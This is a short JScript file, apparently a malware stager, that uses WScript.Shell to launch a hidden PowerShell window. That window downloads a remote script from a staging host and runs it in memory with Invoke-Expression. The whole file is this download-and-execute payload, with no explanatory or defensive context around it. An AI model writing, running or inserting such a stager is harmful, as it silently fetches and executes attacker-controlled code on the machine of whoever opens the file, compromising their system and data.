var sh = new ActiveXObject("WScript.Shell");
sh.Run("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://stage.example-cdn.org/a')\"", 0);
